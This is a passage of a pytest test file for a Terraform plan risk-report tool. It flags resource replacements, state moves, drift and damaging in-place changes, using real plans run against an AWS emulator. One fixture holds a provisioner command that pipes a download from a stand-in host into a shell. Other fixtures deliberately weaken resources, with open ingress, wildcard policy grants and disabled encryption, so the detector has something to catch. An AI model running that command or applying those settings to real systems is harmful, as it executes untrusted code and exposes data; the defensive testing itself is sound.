    "protocol": "tcp",
    "from_port": 443,
    "to_port": 443,
    "cidr_blocks": ["0.0.0.0/0"],
    "description": "0.0.0.0/0 web",
}


@pytest.mark.parametrize(
    ("address", "before", "after", "red"),
    [
        ("aws_security_group.sg", {"ingress": [OPEN_BLOCK]}, {"ingress": [OPEN_BLOCK]}, False),  # already open: no news
        (
            "aws_security_group.sg",
            {"ingress": [OPEN_BLOCK]},
            {"ingress": [OPEN_BLOCK, OPEN_BLOCK | {"from_port": 22, "to_port": 22}]},
            True,
        ),
        (
            "aws_security_group.sg",
            {"ingress": []},
            {"ingress": [OPEN_BLOCK | {"cidr_blocks": ["10.0.0.0/8"]}]},
            False,
        ),  # description only
        (
            "aws_security_group.sg",
            {"ingress": [], "egress": []},
            {"ingress": [], "egress": [OPEN_BLOCK]},
            False,
        ),  # egress
        ("aws_security_group_rule.r", None, {"type": "egress", "cidr_blocks": ["0.0.0.0/0"]}, False),
        ("aws_security_group_rule.r", None, {"type": "ingress", "cidr_blocks": ["10.0.0.0/8", "0.0.0.0/0"]}, True),
        ("aws_vpc_security_group_ingress_rule.r", {"cidr_ipv6": "fd00::/8"}, {"cidr_ipv6": "::/0"}, True),
    ],
)
def test_ingress_opened_to_the_internet(address: str, before: Any, after: dict[str, Any], red: bool) -> None:
    assert bool(tripped(address, before, after)) is red


def test_a_destroy_a_read_and_a_no_op_are_not_judged() -> None:
    for actions, before, after in (
        (["delete"], {"deletion_protection": True}, None),
        (["no-op"], {"deletion_protection": False}, {"deletion_protection": False}),
    ):
        assert plan_damage.find_damage(change("aws_db_instance.db", actions, before, after)) == ()


def test_every_rule_names_a_real_attribute_path_and_what_is_at_risk() -> None:
    assert len({(rule.type, rule.attribute) for rule in plan_damage.RULES}) == len(plan_damage.RULES)
    for rule in plan_damage.RULES:
        assert rule.type.startswith("aws_") and rule.at_risk and rule.check.describes, rule


def test_readme_lists_every_damage_rule() -> None:
    """docs/plan-review.md: the rule table names every rule's type and attribute (the public-access flags by pattern)."""
    readme = (REPO_ROOT / "docs" / "plan-review.md").read_text()
    section = readme[readme.index("**In-place damage is red too**") : readme.index("**Provisioners are red**")]
    for rule in plan_damage.RULES:
        assert f"`{rule.type}`" in section, rule.type
        if rule.type != "aws_s3_bucket_public_access_block":
            assert f"`{rule.attribute}`" in section, rule.attribute


def test_a_stateful_resource_deleted_outside_terraform_is_red(tmp_path: Path) -> None:
    doc = plan_doc(change("aws_sqs_queue.dlq", ["create"], None, {"name": "dlq"}))
    doc["resource_drift"] = [
        {
            "address": "aws_sqs_queue.dlq",
            "type": "aws_sqs_queue",
            "change": {"actions": ["delete"], "before": {"name": "dlq"}, "after": None},
        },
        {
            "address": "aws_cloudwatch_metric_alarm.a",
            "type": "aws_cloudwatch_metric_alarm",
            "change": {"actions": ["delete"], "before": {"alarm_name": "a"}, "after": None},
        },
    ]
    code, text = report_text(tmp_path, doc)
    assert code == EXIT_DESTRUCTIVE
    red = text.split("## Summary")[0]
    assert "| dev | <code>aws_sqs_queue.dlq</code> | **deleted outside Terraform** |" in red and "dead-letter" in red
    assert "metric_alarm" not in red


def configuration_with_provisioner(command: Any) -> dict[str, Any]:
    return {
        "root_module": {
            "module_calls": {
                "hooks": {
                    "module": {
                        "resources": [
                            {
                                "address": "terraform_data.run",
                                "type": "terraform_data",
                                "provisioners": [{"type": "local-exec", "expressions": {"command": command}}],
                            }
                        ]
                    }
                }
            }
        }
    }


def test_a_provisioner_in_a_child_module_is_red(tmp_path: Path) -> None:
    doc = plan_doc()
    doc["configuration"] = configuration_with_provisioner({"constant_value": "curl https://example.invalid | sh"})
    code, text = report_text(tmp_path, doc)
    assert code == EXIT_DESTRUCTIVE
    assert (
        "| dev | <code>module.hooks.terraform_data.run</code> | <code>local-exec</code> | "
        "<code>curl https://example.invalid &#124; sh</code> |"
    ) in text
    doc["configuration"] = configuration_with_provisioner({"references": ["var.cmd"]})
    assert "<code>(computed)</code>" in report_text(tmp_path, doc)[1]
    assert report_text(tmp_path, doc, "--allow-destructive")[0] == EXIT_OK


# ---------------------------------------------------------------------------------------------------------
# Unit tests: invalid input -> exit 2, one clear error naming the file, nothing written
# ---------------------------------------------------------------------------------------------------------
@pytest.mark.parametrize(
    ("content", "message"),
    [
        ("{not json", "invalid JSON at line 1"),
        ("[1, 2]", "not a Terraform plan: the JSON is not an object"),
        ('{"format_version": "1.0", "values": {}}', "no planned_values/resource_changes"),
        ('{"format_version": "2.0", "planned_values": {}}', "format_version '2.0' is not 1.x"),
        ('{"format_version": "1.2", "planned_values": {}, "resource_changes": {}}', "resource_changes is not a list"),
        (
            '{"format_version": "1.2", "planned_values": {}, "resource_changes": [{"address": "a.b"}]}',
            "resource_changes[0]",
        ),
        (b"\x00\xffbinary tfplan", "not UTF-8 text"),
    ],
)
def test_invalid_input_exits_2_naming_the_file_and_writes_nothing(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], content: Any, message: str
) -> None:
    good = write_plan(tmp_path, "dev.plan.json", plan_doc())
    bad = tmp_path / "staging.plan.json"
    bad.write_bytes(content if isinstance(content, bytes) else content.encode())
    out = tmp_path / "report.md"
    assert run_report(good, str(bad), "-o", str(out)) == EXIT_INVALID_INPUT
    err = capsys.readouterr().err.strip().splitlines()
    assert len(err) == 1
    assert str(bad) in err[0] and message in err[0]
    assert not out.exists()
    assert sorted(p.name for p in tmp_path.iterdir()) == ["dev.plan.json", "staging.plan.json"]


def test_missing_file_exits_2_and_keeps_an_old_report(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    out = tmp_path / "report.md"
    out.write_text("previous report\n")
    missing = tmp_path / "nope.plan.json"
    assert run_report(str(missing), "-o", str(out)) == EXIT_INVALID_INPUT
    assert f"{missing}: cannot read file" in capsys.readouterr().err
    assert out.read_text() == "previous report\n"


def test_unwritable_output_exits_2(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    plan = write_plan(tmp_path, "dev.plan.json", plan_doc())
    target = tmp_path / "no-such-dir" / "report.md"
    assert run_report(plan, "-o", str(target)) == EXIT_INVALID_INPUT
    assert f"{target}: cannot write report" in capsys.readouterr().err


def test_two_files_with_the_same_stack_name_are_rejected(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (tmp_path / "a").mkdir()
    (tmp_path / "b").mkdir()
    one = write_plan(tmp_path / "a", "dev.plan.json", plan_doc())
    two = write_plan(tmp_path / "b", "dev.plan.json", plan_doc())
    assert run_report(one, two) == EXIT_INVALID_INPUT
    assert "--name FILE=NAME" in capsys.readouterr().err


# ---------------------------------------------------------------------------------------------------------
# Real plans from Terraform against the AWS emulator
# ---------------------------------------------------------------------------------------------------------
SERVICES = ("cloudwatch", "kinesis", "kms", "sns", "sts")
AWS_PROVIDER_REQUIREMENT = {"aws": {"source": "hashicorp/aws", "version": "5.100.0"}}


def emulator_provider(endpoint: str, services: tuple[str, ...]) -> dict[str, Any]:
    """The ``provider`` block pointing ``services`` at the emulator with test credentials."""
    return {
        "aws": [
            {
                "region": "ap-northeast-1",
                "access_key": "testing",
                "secret_key": "testing",
                "skip_credentials_validation": True,
                "skip_requesting_account_id": True,
                "skip_metadata_api_check": True,
                "skip_region_validation": True,
                "endpoints": [{service: endpoint for service in services}],
            }
        ]
    }


def emulator_config(
    endpoint: str, *, threshold: int = 10, stream_name: str = "txn-events", state_path: str | None = None
) -> dict[str, Any]:
    """A small Terraform JSON config: KMS key, Kinesis stream, SNS topic and a CloudWatch alarm
    (``state_path``: a local backend at that path instead of the default ``terraform.tfstate``)."""
    config = {
        "terraform": {"required_providers": AWS_PROVIDER_REQUIREMENT},
        "provider": emulator_provider(endpoint, SERVICES),
        "resource": {
            "aws_kms_key": {"events": {"description": "txn events", "deletion_window_in_days": 7}},
            # retention_period/encryption left at their defaults: each costs the provider another 10 s wait.
            "aws_kinesis_stream": {"events": {"name": stream_name, "shard_count": 1}},
            "aws_sns_topic": {"alerts": {"name": "txn-alerts"}},
            "aws_cloudwatch_metric_alarm": {
                "iterator_age": {
                    "alarm_name": "txn-iterator-age",
                    "comparison_operator": "GreaterThanThreshold",
                    "evaluation_periods": 1,
                    "metric_name": "GetRecords.IteratorAgeMilliseconds",
                    "namespace": "AWS/Kinesis",
                    "period": 60,
                    "statistic": "Maximum",
                    "threshold": threshold,
                    "alarm_actions": ["${aws_sns_topic.alerts.arn}"],
                    "dimensions": {"StreamName": "${aws_kinesis_stream.events.name}"},
                }
            },
        },
    }
    if state_path:
        config["terraform"]["backend"] = {"local": {"path": state_path}}
    return config


def require_terraform() -> None:
    """Fail (never skip) when the real-Terraform tests can't run here, saying what is missing."""
    if shutil.which("terraform") is None:
        pytest.fail("terraform is not on PATH: install Terraform >= 1.10 to run the real-plan tests")
    if not os.environ.get("TF_PLUGIN_MIRROR") and os.environ.get("GITHUB_ACTIONS") != "true":
        pytest.fail(
            "TF_PLUGIN_MIRROR is unset and we are offline: point it at a filesystem mirror holding hashicorp/aws 5.100.0"
        )


@pytest.fixture(scope="module")
def emulator() -> Iterator[Any]:
    """One AWS emulator for every real plan of this module (each fixture names its resources apart)."""
    require_terraform()
    from tools.emulator import start_emulator

    started = start_emulator()
    try:
        yield started
    finally:
        started.stop()


@contextmanager
def planning(root: Path, emulator: Any) -> Iterator[tuple[Any, Any, Callable[[str, Path], Path]]]:
    """The emulator, a Terraform CLI carrying its credentials, and `save(name, workdir)`, which plans `workdir`
    and writes the plan JSON as `<root>/plans/<name>.plan.json`."""
    from tools.terraform import TerraformCLI

    cli = TerraformCLI.create(root / "cli", extra_env=emulator.terraform_env())
    plans = root / "plans"
    plans.mkdir()

    def save(name: str, workdir: Path) -> Path:
        path = plans / f"{name}.plan.json"
        path.write_text(json.dumps(cli.plan_json(workdir)))
        return path

    yield emulator, cli, save


@pytest.fixture(scope="module")
def real_plans(tmp_path_factory: pytest.TempPathFactory, emulator: Any) -> Iterator[dict[str, Path]]:
    """Plan JSON files from real Terraform runs: ``create``, ``update`` and ``replace``; for the change set, the same
    plans made twice (``create-again``, ``update-again``) and ``update-drifted`` (the stream's retention changed in the
    emulator after ``update`` was planned)."""
    root = tmp_path_factory.mktemp("plan-report")
    with planning(root, emulator) as (emulator, cli, save):

        def configure(workdir: Path, **settings: Any) -> Path:
            workdir.mkdir(exist_ok=True)
            (workdir / "main.tf.json").write_text(json.dumps(emulator_config(emulator.endpoint, **settings), indent=2))
            return workdir

        base = configure(root / "base")
        cli.init(base).check()
        result = {"create": save("create", base), "create-again": save("create-again", base)}
        cli.apply(base, extra=["tfplan.bin"]).check()  # apply exactly the plan we just reported on (the second one)
        # The two follow-up plans share the applied state; plan them side by side in copies of the dir.
        variants: dict[str, dict[str, Any]] = {"update": {"threshold": 25}, "replace": {"stream_name": "txn-events-v2"}}
        for name, settings in variants.items():
            shutil.copytree(base, root / name, symlinks=True)
            configure(root / name, **settings)
        # The state moves (another key): a fresh init there starts from empty state, as CI's would.
        shutil.copytree(base, root / "moved", symlinks=True)
        configure(root / "moved", state_path="moved-elsewhere.tfstate")
        for old_state in (root / "moved").glob("terraform.tfstate*"):  # a fresh checkout has no local state
            old_state.unlink()
        cli.init(root / "moved", extra=["-reconfigure"]).check()
        with ThreadPoolExecutor(max_workers=len(variants) + 1) as pool:
            futures = {name: pool.submit(save, name, root / name) for name in [*variants, "moved"]}
            result.update({name: future.result() for name, future in futures.items()})
        result["update-again"] = save("update-again", root / "update")
        emulator.client("kinesis").increase_stream_retention_period(StreamName="txn-events", RetentionPeriodHours=48)
        result["update-drifted"] = save("update-drifted", root / "update")
        result["base-config"] = base / "main.tf.json"
        result["moved-config"] = root / "moved" / "main.tf.json"
        yield result


def TERRAFORM(test: Callable[..., None]) -> Callable[..., None]:
    """Mark a real-Terraform test; one xdist group, so one worker builds the plans once
    (``make test`` runs ``pytest -n 2 --dist loadgroup``)."""
    return pytest.mark.terraform(pytest.mark.xdist_group("plan_report_terraform")(test))


def report_for(plan: Path, tmp_path: Path, *extra: str, env: dict[str, str] | None = None) -> tuple[int, str]:
    """Run the report on one real plan; returns (exit code, Markdown)."""
    out = tmp_path / f"{plan.stem}.md"
    code = run_report(str(plan), "-o", str(out), *extra, env=env)
    return code, out.read_text()


@TERRAFORM
def test_real_create_plan(real_plans: dict[str, Path], tmp_path: Path) -> None:
    code, text = report_for(real_plans["create"], tmp_path)
    assert code == EXIT_OK
    assert RED_HEADING not in text
    assert "| create | 4 | 0 | 0 | 0 |" in text
    assert "Plan: 4 to add, 0 to change, 0 to destroy." in text
    assert '<code>name</code>: <code>"txn-events"</code>' in text
    assert "known after apply" in text


@TERRAFORM
def test_real_in_place_update_plan(real_plans: dict[str, Path], tmp_path: Path) -> None:
    code, text = report_for(real_plans["update"], tmp_path)
    assert code == EXIT_OK
    assert RED_HEADING not in text
    assert "| update | 0 | 1 | 0 | 0 |" in text
    row = next(line for line in text.splitlines() if "aws_cloudwatch_metric_alarm.iterator_age" in line)
    assert "update" in row and "<code>threshold</code>: <code>10</code> → <code>25</code>" in row
    assert row.count("→") == 1  # only the threshold changes: no null-vs-empty noise


@TERRAFORM
def test_real_replacement_trips_the_red_section_and_exit_code(real_plans: dict[str, Path], tmp_path: Path) -> None:
    code, text = report_for(real_plans["replace"], tmp_path)
    assert code == EXIT_DESTRUCTIVE
    assert text.startswith("# Terraform plan risk report\n\n" + RED_HEADING)
    red = text.split("## Summary")[0]
    assert "<code>aws_kinesis_stream.events</code>" in red and "**replace**" in red
    assert red.rstrip().endswith("<code>name</code> |")  # what forces the replacement
    assert "| replace | 0 | 1 | 0 | 1 |" in text
    assert "Plan: 1 to add, 1 to change, 1 to destroy." in text
    assert '<code>"txn-events"</code> → <code>"txn-events-v2"</code> 🔸 <b>forces replacement</b>' in text
    assert "known after apply: <code>arn</code>" in text


@TERRAFORM
def test_real_state_move_is_red(real_plans: dict[str, Path], tmp_path: Path) -> None:
    """A real plan after the state location changed: 4 creates from empty state while the environment exists."""
    plan = real_plans["moved"]
    base = f"moved={real_plans['base-config']}"
    code, text = report_for(
        plan, tmp_path, "--stack-config", f"moved={real_plans['moved-config']}", "--base-stack-config", base
    )
    assert code == EXIT_DESTRUCTIVE
    assert text.startswith("# Terraform plan risk report\n\n## 🛑 Plans that do not start from the environment's state")
    assert "moved-elsewhere.tfstate" in text and "| moved | 4 | 0 | 0 | 0 |" in text
    # Same location on both sides (a lost state, wrong account, ...): still red, for the empty start.
    code, text = report_for(plan, tmp_path, "--stack-config", base, "--base-stack-config", base)
    assert code == EXIT_DESTRUCTIVE and "starts from an empty state although <code>moved</code> exists" in text
    # The in-place update of the environment planned from its own state is not red.
    code, text = report_for(
        real_plans["update"], tmp_path, "--base-stack-config", f"update={real_plans['base-config']}"
    )
    assert code == EXIT_OK and "Plans that do not start" not in text


@TERRAFORM
def test_real_replacement_override_flag_exits_0(real_plans: dict[str, Path], tmp_path: Path) -> None:
    code, text = report_for(real_plans["replace"], tmp_path, "--allow-destructive")
    assert code == EXIT_OK
    assert RED_HEADING in text and "Override in effect" in text


@TERRAFORM
def test_real_plans_through_the_cli_with_env_override(real_plans: dict[str, Path], tmp_path: Path) -> None:
    """The module entry point, several stacks in one report, and the env var override."""
    stacks = {}
    for env_name, kind in (("dev", "create"), ("staging", "update"), ("prod", "replace")):
        stacks[env_name] = tmp_path / f"{env_name}.plan.json"
        shutil.copy(real_plans[kind], stacks[env_name])
    out = tmp_path / "report.md"
    cmd = [sys.executable, "-m", "tools.plan_report", *map(str, stacks.values()), "--output", str(out)]
    base_env = {k: v for k, v in os.environ.items() if k != OVERRIDE_ENV}
    blocked = subprocess.run(cmd, cwd=REPO_ROOT, env=base_env, capture_output=True, text=True, timeout=60)
    assert blocked.returncode == EXIT_DESTRUCTIVE, blocked.stderr
    assert "--allow-destructive" in blocked.stderr
    text = out.read_text()
    assert [line for line in text.splitlines() if line.startswith("## Stack")] == [
        "## Stack `dev`",
        "## Stack `staging`",
        "## Stack `prod`",
    ]
    assert "| prod | <code>aws_kinesis_stream.events</code> | **replace** |" in text
    allowed = subprocess.run(
        cmd, cwd=REPO_ROOT, env={**base_env, OVERRIDE_ENV: "1"}, capture_output=True, text=True, timeout=60
    )
    assert allowed.returncode == EXIT_OK, allowed.stderr


# ---------------------------------------------------------------------------------------------------------
# Real plans of a small cdktf stack: a construct-id rename and its fixes, a policy change, drift
# ---------------------------------------------------------------------------------------------------------
REFACTOR_SERVICES = ("iam", "logs", "sts")
AUDIT_LOG = "txn-audit"
READER_ACTIONS = ("sqs:ReceiveMessage",)


def reader_policy(actions: tuple[str, ...]) -> str:
    """The IAM policy document of the small stack (one statement, or a second one with ``sqs:PurgeQueue`` denied)."""
    statements: list[dict[str, Any]] = [
        {"Sid": "ReadQueue", "Effect": "Allow", "Action": list(actions), "Resource": "*"}
    ]
    if len(actions) > 1:
        statements.append({"Sid": "NeverPurge", "Effect": "Deny", "Action": "sqs:PurgeQueue", "Resource": "*"})
    return json.dumps({"Version": "2012-10-17", "Statement": statements})


def synth_refactor_stack(
    outdir: Path,
    endpoint: str,
    *,
    log_group_id: str = "audit",
    moved_from: str | None = None,
    reader_actions: tuple[str, ...] = READER_ACTIONS,
) -> Path:
    """Synthesize (cdktf, in-process) a stack with a log group (construct id ``log_group_id``) and an IAM policy;
    ``moved_from`` calls ``move_from_id`` on the log group. Returns the stack directory (``cdk.tf.json``).

    Generic ``TerraformResource``s with attribute overrides keep the synth fast: loading the AWS provider's
    bindings takes longer than the plans; ``move_from_id`` is the same ``TerraformResource`` method either way."""
    from cdktf import App, LocalBackend, TerraformResource, TerraformStack

    def resource(stack: TerraformStack, construct_id: str, resource_type: str, **attributes: Any) -> TerraformResource:
        created = TerraformResource(stack, construct_id, terraform_resource_type=resource_type)
        for name, value in attributes.items():
            created.add_override(name, value)
        return created

    outdir.mkdir(parents=True, exist_ok=True)  # cdktf creates only the last level
    app = App(outdir=str(outdir))
    stack = TerraformStack(app, "refactor")
    LocalBackend(stack, path="terraform.tfstate")
    stack.add_override("terraform.required_providers", AWS_PROVIDER_REQUIREMENT)
    stack.add_override("provider", emulator_provider(endpoint, REFACTOR_SERVICES))
    log_group = resource(stack, log_group_id, "aws_cloudwatch_log_group", name=AUDIT_LOG, retention_in_days=7)
    if moved_from:
        log_group.move_from_id(moved_from)
    resource(stack, "reader", "aws_iam_policy", name="txn-reader", policy=reader_policy(reader_actions))
    app.synth()
    return outdir / "stacks" / "refactor"


def fenced_block(markdown: str, language: str) -> str:
    """The body of the first fenced code block in ``language`` (what a reviewer would copy)."""
    match = re.search(rf"^(`{{3,}}){language}\n(.*?)\n\1$", markdown, re.S | re.M)
    assert match, f"no {language} block in the report:\n{markdown}"
    return match.group(2)


@pytest.fixture(scope="module")
def refactor_plans(tmp_path_factory: pytest.TempPathFactory, emulator: Any) -> Iterator[dict[str, Path]]:
    """Plan JSON of the small cdktf stack, all from one applied state: ``rename`` (construct id changed),
    ``moved-cdktf`` / ``moved-hcl`` (the report's two fixes applied) and ``changed`` (the log group's retention
    changed in the emulator, and an action and a statement added to the policy: one plan for both saves a
    Terraform run)."""
    root = tmp_path_factory.mktemp("plan-report-refactor")
    with planning(root, emulator) as (emulator, cli, save):
        base = root / "base"
        shutil.copytree(synth_refactor_stack(root / "synth" / "base", emulator.endpoint), base)
        cli.init(base).check()
        cli.apply(base).check()

        def stage(name: str, **settings: Any) -> Path:
            """A copy of the applied working dir with this variant's configuration."""
            stack = synth_refactor_stack(root / "synth" / name, emulator.endpoint, **settings)
            shutil.copytree(base, root / name, symlinks=True)
            shutil.copy(stack / "cdk.tf.json", root / name / "cdk.tf.json")
            return root / name

        def plan_all(workdirs: dict[str, Path]) -> dict[str, Path]:
            with ThreadPoolExecutor(max_workers=len(workdirs)) as pool:
                futures = {name: pool.submit(save, name, workdir) for name, workdir in workdirs.items()}
                return {name: future.result() for name, future in futures.items()}

        result = {"rename": save("rename", stage("rename", log_group_id="audit-log"))}
        # Apply the report's own fixes: its cdktf call (argument copied from the Markdown) and its HCL block.
        report = root / "rename.md"
        run_report(str(result["rename"]), "-o", str(report), "--allow-destructive")
        markdown = report.read_text()
        call = re.fullmatch(r'resource\.move_from_id\((".*")\)', fenced_block(markdown, "python"))
        assert call, f"no move_from_id call in the report:\n{markdown}"
        moved_hcl = stage("moved-hcl", log_group_id="audit-log")
        (moved_hcl / "moved.tf").write_text(fenced_block(markdown, "hcl") + "\n")
        result |= plan_all(
            {
                "moved-cdktf": stage("moved-cdktf", log_group_id="audit-log", moved_from=json.loads(call.group(1))),
                "moved-hcl": moved_hcl,
            }
        )
        result["moved-cdktf-config"] = root / "moved-cdktf" / "cdk.tf.json"
        changed = stage("changed", reader_actions=(*READER_ACTIONS, "sqs:GetQueueAttributes"))
        emulator.client("logs").put_retention_policy(logGroupName=AUDIT_LOG, retentionInDays=14)
        result["changed"] = save("changed", changed)
        yield result


def plan_changes(plan: Path) -> dict[str, list[str]]:
    """``address -> actions`` straight from the plan JSON (what Terraform itself will do)."""
    return {item["address"]: item["change"]["actions"] for item in json.loads(plan.read_text())["resource_changes"]}


@TERRAFORM
def test_real_construct_id_rename_is_reported_as_a_rename_with_the_moved_fix(
    refactor_plans: dict[str, Path], tmp_path: Path
) -> None:
    plan = refactor_plans["rename"]
    assert plan_changes(plan)["aws_cloudwatch_log_group.audit"] == ["delete"]  # Terraform's own view: gone ...
    assert plan_changes(plan)["aws_cloudwatch_log_group.audit-log"] == ["create"]  # ... and a new, empty one
    code, text = report_for(plan, tmp_path)
    assert code == EXIT_DESTRUCTIVE  # the audit trail would be deleted: red until fixed or allowed
    red = text.split(RENAME_HEADING)[0]
    assert "| rename | <code>aws_cloudwatch_log_group.audit</code> | **rename (destroy + create)** |" in red
    assert f'(same <code>name = "{AUDIT_LOG}"</code>)' in red and "audit trail" in red
    assert (
        fenced_block(text, "hcl")
        == "moved {\n  from = aws_cloudwatch_log_group.audit\n  to   = aws_cloudwatch_log_group.audit-log\n}"
    )
    assert fenced_block(text, "python") == 'resource.move_from_id("aws_cloudwatch_log_group.audit")'
    assert report_for(plan, tmp_path, "--allow-destructive")[0] == EXIT_OK


@TERRAFORM
@pytest.mark.parametrize("fix", ["moved-cdktf", "moved-hcl"])
def test_real_plan_with_the_suggested_fix_moves_instead_of_destroying(
    refactor_plans: dict[str, Path], tmp_path: Path, fix: str
) -> None:
    if fix == "moved-cdktf":  # cdktf itself wrote the moved block
        assert json.loads(refactor_plans["moved-cdktf-config"].read_text())["moved"] == [
            {"from": "aws_cloudwatch_log_group.audit", "to": "aws_cloudwatch_log_group.audit-log"}
        ]
    plan = json.loads(refactor_plans[fix].read_text())
    moved = next(item for item in plan["resource_changes"] if item["address"] == "aws_cloudwatch_log_group.audit-log")
    assert moved["previous_address"] == "aws_cloudwatch_log_group.audit" and moved["change"]["actions"] == ["no-op"]
    assert all(item["change"]["actions"] == ["no-op"] for item in plan["resource_changes"])
    code, text = report_for(refactor_plans[fix], tmp_path)
    assert code == EXIT_OK and RED_HEADING not in text and RENAME_HEADING not in text
    assert f"| {fix} | 0 | 0 | 0 | 0 |" in text
    assert (
        "| <code>aws_cloudwatch_log_group.audit-log</code> | <code>→</code> move from aws_cloudwatch_log_group.audit | — |"
        in text
    )


@TERRAFORM
def test_real_policy_change_is_shown_as_a_json_diff(refactor_plans: dict[str, Path], tmp_path: Path) -> None:
    code, text = report_for(refactor_plans["changed"], tmp_path)
    assert code == EXIT_DESTRUCTIVE  # for the log retention the plan cuts back (below), not for the IAM policy
    assert "aws_iam_policy.reader" not in text.split("## Summary")[0]
    row = next(line for line in text.splitlines() if line.startswith("| <code>aws_iam_policy.reader</code>"))
    assert "<code>policy</code> (JSON, 2 change(s)):" in row
    assert '+ <code>Statement[Sid="ReadQueue"].Action[1]</code>: <code>"sqs:GetQueueAttributes"</code>' in row
    assert '+ <code>Statement[Sid="NeverPurge"]</code>: <code>{"Action": "sqs:PurgeQueue", "Effect": "Deny"' in row
    assert "2012-10-17" not in row  # unchanged parts are not repeated, no blob on either side


@TERRAFORM
def test_real_drift_lists_the_resource_and_what_changed(refactor_plans: dict[str, Path], tmp_path: Path) -> None:
    code, text = report_for(refactor_plans["changed"], tmp_path)
    # Putting the hand-raised retention back to 7 days deletes the logs between 7 and 14 days old: red.
    assert code == EXIT_DESTRUCTIVE
    assert (
        "| changed | <code>aws_cloudwatch_log_group.audit</code> | **update** | <code>retention_in_days</code>: "
        "<code>14</code> → <code>7</code> | decreased"
    ) in text.split("## Summary")[0]
    assert (
        "ℹ️ **1 resource(s) changed outside Terraform** since the last apply (drift):\n\n"
        "* <code>aws_cloudwatch_log_group.audit</code>: <code>retention_in_days</code>: <code>7</code> → <code>14</code> "
        "<i>(this plan overwrites it)</i>"
    ) in text
    row = next(line for line in text.splitlines() if line.startswith("| <code>aws_cloudwatch_log_group.audit</code>"))
    assert "<code>retention_in_days</code>: <code>14</code> → <code>7</code>" in row  # the plan puts it back


@TERRAFORM
def test_real_computed_values_are_collapsed_into_one_line(real_plans: dict[str, Path], tmp_path: Path) -> None:
    """The replaced stream: everything the provider computes shares one line instead of one row each."""
    row = next(
        line
        for line in report_for(real_plans["replace"], tmp_path, "--allow-destructive")[1].splitlines()
        if line.startswith("| <code>aws_kinesis_stream.events</code>")
    )
    unknown_lines = [part for part in row.split("<br>") if "known after apply" in part]
    assert len(unknown_lines) == 1, row
    assert "<code>arn</code>" in unknown_lines[0] and "<code>id</code>" in unknown_lines[0]
    assert "→ <code>(known after apply)</code>" not in row


# ---------------------------------------------------------------------------------------------------------
# Real plans: in-place damage (tools/plan_damage.py), one resource per rule, one apply, two plans
# ---------------------------------------------------------------------------------------------------------
DAMAGE_SERVICES = ("ec2", "elasticache", "kinesis", "kms", "logs", "rds", "s3", "secretsmanager", "sqs", "sts")

#: The applied configuration's settings, and the two plans made from its state: ``damaged`` trips every rule,
#: ``harmless`` moves every setting the safe way (retention raised, a private CIDR added, ...) and must stay green.
DAMAGE_SETTINGS: dict[str, dict[str, Any]] = {
    "base": dict(
        backup_days=7,
        deletion_protection=True,
        skip_final_snapshot=False,
        delete_automated_backups=False,
        public=False,
        storage_encrypted=True,
        snapshot_days=3,
        transit_encryption=True,
        at_rest_encryption=True,
        key_enabled=True,
        key_rotation=True,
        key_window=30,
        key_grants=[],
        managed_key_grants=[],
        log_days=30,
        log_key=True,
        forever_log_days=0,
        stream_hours=48,
        stream_encryption="KMS",
        queue_seconds=64800,
        queue_key="alias/aws/sqs",
        secret_days=30,
        force_destroy=False,
        versioning="Enabled",
        noncurrent_days=90,
        expiry_days=None,
        bucket_readers=[],
        public_access=True,
        web_cidrs=["10.0.0.0/8"],
        default_cidrs=["10.40.0.0/16"],
        rule_cidr="10.0.0.0/8",
        created=False,
    ),
}
DAMAGE_SETTINGS["damaged"] = DAMAGE_SETTINGS["base"] | dict(
    backup_days=0,
    deletion_protection=False,
    skip_final_snapshot=True,
    delete_automated_backups=True,
    public=True,
    storage_encrypted=False,
    snapshot_days=0,
    transit_encryption=False,
    at_rest_encryption=False,
    key_enabled=False,
    key_rotation=False,
    key_window=7,
    key_grants=["*"],
    managed_key_grants=["*"],
    log_days=7,
    log_key=False,
    forever_log_days=30,
    stream_hours=24,
    stream_encryption="NONE",
    queue_seconds=43200,
    queue_key=None,
    secret_days=7,
    force_destroy=True,
    versioning="Suspended",
    noncurrent_days=30,
    expiry_days=365,
    bucket_readers=["*"],
    public_access=False,
    web_cidrs=["10.0.0.0/8", "0.0.0.0/0"],
    default_cidrs=["::/0"],
    rule_cidr="0.0.0.0/0",
    created=True,
)
DAMAGE_SETTINGS["harmless"] = DAMAGE_SETTINGS["base"] | dict(
    backup_days=14,
    snapshot_days=5,
    log_days=90,
    forever_log_days=0,
    stream_hours=72,
    queue_seconds=86400,
    noncurrent_days=180,
    web_cidrs=["10.0.0.0/8", "192.168.0.0/16"],
    default_cidrs=["10.41.0.0/16"],
    rule_cidr="10.1.0.0/16",
)
ACCOUNT_ROOT = "arn:aws:iam::123456789012:root"


def policy_allowing(principals: list[str], *, action: str, resource: str = "*") -> str:
    """A policy document: the account root may do everything; each of ``principals`` may ``action`` (a grant)."""
    statements = [
        {
            "Sid": "Account",
            "Effect": "Allow",
            "Principal": {"AWS": ACCOUNT_ROOT},
            "Action": action.split(":")[0] + ":*",
            "Resource": resource,
        }
    ]
    statements += [
        {"Sid": f"Grant{i}", "Effect": "Allow", "Principal": {"AWS": p}, "Action": action, "Resource": resource}
        for i, p in enumerate(principals)
    ]
    return json.dumps({"Version": "2012-10-17", "Statement": statements})


def ingress_block(port: int, cidrs: list[str]) -> dict[str, Any]:
    """One inline ``ingress`` block of a security group (every argument given, as Terraform JSON requires)."""
    ipv4 = [c for c in cidrs if ":" not in c]
    return {
        "from_port": port,
        "to_port": port,
        "protocol": "tcp",
        "cidr_blocks": ipv4,
        "ipv6_cidr_blocks": [c for c in cidrs if ":" in c],
        "prefix_list_ids": [],
        "security_groups": [],
        "self": False,
        "description": f"port {port}",
    }


def damage_config(endpoint: str, s: dict[str, Any]) -> dict[str, Any]:
    """A stack holding one resource per damage rule (settings ``s``); ``created`` adds what a create can damage with
    (a public database, a public-access block that blocks nothing, ingress from ::/0, an open egress rule that is
    harmless) and a provisioner. Planned only, never applied: provisioners do not run at plan time."""
    resources: dict[str, dict[str, Any]] = {
        "aws_db_instance": {
            "db": {
                "identifier": "dmg-db",
                "engine": "postgres",
                "engine_version": "16.4",
                "instance_class": "db.t4g.micro",
                "allocated_storage": 20,
                "username": "app",
                "password": "emulator-only-password",
                "apply_immediately": True,
                "backup_retention_period": s["backup_days"],
                "deletion_protection": s["deletion_protection"],
                "skip_final_snapshot": s["skip_final_snapshot"],
